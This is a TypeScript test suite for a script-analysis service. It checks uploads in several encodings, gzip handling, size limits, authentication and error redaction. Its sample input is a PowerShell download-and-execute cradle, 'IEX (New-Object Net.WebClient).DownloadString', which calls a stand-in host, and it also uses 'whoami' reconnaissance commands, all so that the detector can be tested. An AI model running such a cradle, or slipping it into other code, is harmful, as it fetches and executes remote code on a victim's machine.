import { createHash } from 'node:crypto';
import { connect } from 'node:net';
import { gzipSync } from 'node:zlib';
import pg from 'pg';
import { identityHeader } from '@attest/identity';
import { eventually } from '@attest/testing';
import { openFront, type Answer, type Front } from './front.js';
import { startScriptAnalyzer, type Service } from './service.js';

const hashOf = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex');
const inner = "IEX (New-Object Net.WebClient).DownloadString('http://door.example.test/p.ps1')";
const utf16be = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le').swap16();
const padded = (text: string, bytes: number): Buffer => Buffer.concat([Buffer.from(`${text}\n`), Buffer.alloc(bytes - text.length - 1, '# filler line\n')]);
const grave = expect.stringMatching(/^(MALICIOUS|SUSPICIOUS)$/) as unknown;
const limit = 3 * 1024 * 1024;

describe.each(['in this process', 'behind an address'] as const)('the doors of the script analyzer %s', (where) => {
  let service: Service;
  let front: Front;
  beforeAll(async () => {
    service = await startScriptAnalyzer({ ATTEST_SCRIPT_LIMIT_MB: String(limit / 1024 / 1024) });
    front = await openFront(service, where);
  });
  afterAll(async () => {
    await front?.close();
    await service?.close();
  });

  const analysed = async (sha256: string): Promise<Record<string, unknown>> => {
    let found: Record<string, unknown> | undefined;
    await eventually(`an analysis of ${sha256}`, async () => {
      const { body } = await front.ask('query ($sha256: ID!) { scriptAnalysis(sha256: $sha256) { analyzed verdict language size fileName excerpt layers { text } indicators { value } } }', { sha256 });
      found = body.data?.['scriptAnalysis'] as never;
      return found?.['analyzed'] === true;
    });
    return found as Record<string, unknown>;
  };
  const refusal = ({ status, body }: Answer): unknown => [status, body.error?.code ?? body.code, typeof (body.error?.message ?? body['message'])];

  it.each([
    ['UTF-16, little end first', Buffer.from(`\ufeff${inner}`, 'utf16le')],
    ['UTF-16, big end first', utf16be(inner)],
    ['UTF-8 with a mark', Buffer.from(`\ufeff${inner}`)],
    ['Windows-1252', Buffer.from(`# caf\u00e9\n${inner}`, 'latin1')],
  ])('takes the bytes as they are: %s', async (what, bytes) => {
    const { status, body } = await front.upload(bytes, { query: `?fileName=${encodeURIComponent(`C:\\temp\\${what}.ps1`)}` });
    expect([status, body]).toEqual([202, { sha256: hashOf(bytes) }]);
    const found = await analysed(hashOf(bytes));
    expect(found).toMatchObject({ verdict: grave, language: 'POWERSHELL', size: bytes.length, fileName: `${what}.ps1` });
    expect((found['layers'] as { text: string }[])[0]?.text).toContain(inner);
    expect(found['excerpt']).toContain('IEX (New-Object');
    expect((found['indicators'] as { value: string }[]).map(({ value }) => value)).toContain('http://door.example.test/p.ps1');
  });

  it('takes what GraphQL cannot carry, and what was compressed for the way', async () => {
    const large = padded(inner, 2_500_000);
    expect(refusal(await front.ask('mutation ($text: String) { submitScript(text: $text) { sha256 } }', { text: large.toString() }))).toEqual([413, undefined, 'undefined']);
    expect((await front.upload(large)).body).toEqual({ sha256: hashOf(large) });
    const packed = padded(`${inner} # packed`, 100_000);
    expect((await front.upload(gzipSync(packed), { headers: { 'content-encoding': 'gzip' } })).body).toEqual({ sha256: hashOf(packed) });
    expect(await analysed(hashOf(packed))).toMatchObject({ size: 100_000 });
  });

  it('reads in the language that is named', async () => {
    const bytes = Buffer.from('echo door & echo door');
    await front.upload(bytes, { query: '?language=Batch' });
    expect(await analysed(hashOf(bytes))).toMatchObject({ language: 'BATCH' });
  });

  it('refuses what is too large, whether or not its size is told before, and lives on', async () => {
    const sentence = 'A script may have 3 MB; this one has 4 MB.';
    const told = await front.upload(Buffer.alloc(4 * 1024 * 1024, 'x'));
    expect([refusal(told), told.body.error?.message]).toEqual([[413, 'TOO_LARGE', 'string'], sentence]);
    expect(refusal(await front.upload(Buffer.alloc(12 * 1024 * 1024, 'x'), { inPieces: true }))).toEqual([413, 'TOO_LARGE', 'string']);
    expect(refusal(await front.upload(gzipSync(Buffer.alloc(40 * 1024 * 1024)), { headers: { 'content-encoding': 'gzip' } }))).toEqual([413, 'TOO_LARGE', 'string']);
    expect((await front.upload(Buffer.from('whoami /priv'))).status).toBe(202);
    expect((await front.ask('{ scriptLimitBytes }')).body.data).toEqual({ scriptLimitBytes: limit });
  });

  it.each<[string, number, string, Uint8Array, Parameters<Front['upload']>[1]]>([
    ['nobody', 401, 'UNAUTHENTICATED', Buffer.from('x y'), { anonymous: true }],
    ['a page of another site', 403, 'FOREIGN_ORIGIN', Buffer.from('x y'), { headers: { origin: 'https://evil.example' } }],
    ['nothing', 400, 'EMPTY_SCRIPT', Buffer.alloc(0), {}],
    ['a form', 415, 'UNSUPPORTED_BODY', Buffer.from('--x'), { headers: { 'content-type': 'multipart/form-data; boundary=x' } }],
    ['an unknown compression', 415, 'UNSUPPORTED_BODY', Buffer.from('x y'), { headers: { 'content-encoding': 'br' } }],
    ['broken gzip', 400, 'BAD_INPUT', Buffer.from('x y'), { headers: { 'content-encoding': 'gzip' } }],
    ['a language nobody speaks', 400, 'BAD_INPUT', Buffer.from('x y'), { query: '?language=cobol' }],
  ])('refuses %s', async (_what, status, code, bytes, options) => {
    expect(refusal(await front.upload(bytes, options))).toEqual([status, code, 'string']);
  });

  it('lives on when a sender goes away in the middle', async () => {
    const { hostname, port } = new URL(front.url);
    await new Promise<void>((resolve) => {
      const socket = connect(Number(port), hostname, () => {
        socket.write('POST /api/scripts HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nContent-Length: 1000000\r\n');
        socket.write(`Authorization: ${front.authorization}\r\n\r\n${'x'.repeat(20_000)}`, () => setTimeout(() => socket.destroy(), 200));
      });
      socket.on('close', () => resolve());
    });
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(front.log()).not.toMatch(/"a request failed"/);
    expect((await front.upload(Buffer.from('whoami /groups'))).status).toBe(202);
  });

  it('believes nobody who comes past the gateway', async () => {
    if (front.serviceUrl === undefined) return;
    for (const forged of ['', 'forged']) {
      const { status } = await fetch(`${front.serviceUrl}/api/scripts`, { method: 'POST', body: 'whoami /all', headers: { [identityHeader]: forged } });
      expect(status).toBe(401);
    }
  });

  it.each([
    ['EMPTY_SCRIPT', 'mutation { submitScript(text: "") { sha256 } }'],
    ['BAD_INPUT', 'mutation { submitScript(base64: "no base64!") { sha256 } }'],
    ['SCRIPT_UNKNOWN', 'mutation { analyzeScriptAgain(sha256: "zz") { sha256 } }'],
    ['BAD_INPUT', '{ scriptAnalyses(after: "0") { totalCount } }'],
    ['BAD_INPUT', '{ scriptAnalyses(filter: { technique: "T1" }) { totalCount } }'],
    ['BAD_INPUT', '{ scriptAnalyses(filter: { submittedAfter: "yesterday" }) { totalCount } }'],
  ])('lets a known error through with its code %s and one sentence: %s', async (code, query) => {
    const [error] = (await front.ask(query)).body.errors ?? [];
    expect(error?.extensions).toEqual({ code });
    expect(error?.message).toMatch(/^[^\n]{10,200}\.$/);
  });

  it('shows a fault as a reference that the log knows, and nothing of its inside', async () => {
    const admin = new pg.Client({ connectionString: service.databaseUrl });
    await admin.connect();
    await admin.query('ALTER TABLE script_analyzer.script RENAME TO script_away');
    try {
      const rest = await front.upload(Buffer.from('whoami /fault'));
      expect([rest.status, rest.body.error]).toEqual([500, { code: 'INTERNAL', message: expect.stringMatching(/^Something went wrong on our side \(reference [\w-]+\)\.$/), reference: expect.any(String) }]);
      const asked = await front.ask('{ scriptAnalyses { totalCount } }');
      expect(asked.body.errors?.[0]).toMatchObject({ message: expect.stringMatching(/^Something went wrong on our side \(reference [0-9a-f]{8}\)\.$/), extensions: { code: 'INTERNAL', reference: expect.any(String) } });
      for (const { text } of [rest, asked]) expect(text).not.toMatch(/script_away|relation|SELECT|INSERT|QueryFailed|node_modules|\.ts\b/i);
      for (const reference of [rest.body.error?.reference, asked.body.errors?.[0]?.extensions['reference']]) expect(front.log()).toContain(String(reference));
    } finally {
      await admin.query('ALTER TABLE script_analyzer.script_away RENAME TO script');
      await admin.end();
    }
  });

  it('tells live how an analysis goes: where it stands, then that it is there', async () => {
    const bytes = Buffer.from(`${inner} # live`);
    const client = front.live();
    const results = client.iterate<{ scriptAnalysisChanged: { sha256: string; script: { analyzed: boolean; verdict: string | null } } }>({ query: 'subscription ($sha256: ID) { scriptAnalysisChanged(sha256: $sha256) { sha256 script { analyzed verdict } } }', variables: { sha256: hashOf(bytes).toUpperCase() } });
    expect((await results.next()).value).toEqual({ data: { scriptAnalysisChanged: { sha256: hashOf(bytes), script: { analyzed: false, verdict: null } } } });
    const next = results.next();
    await front.upload(bytes);
    expect((await next).value).toEqual({ data: { scriptAnalysisChanged: { sha256: hashOf(bytes), script: { analyzed: true, verdict: grave } } } });
    await results.return?.();
    const later = client.iterate({ query: 'subscription ($sha256: ID) { scriptAnalysisChanged(sha256: $sha256) { script { analyzed } } }', variables: { sha256: hashOf(bytes) } });
    expect((await later.next()).value).toEqual({ data: { scriptAnalysisChanged: { script: { analyzed: true } } } });
    await later.return?.();
    await client.dispose();
  });
});
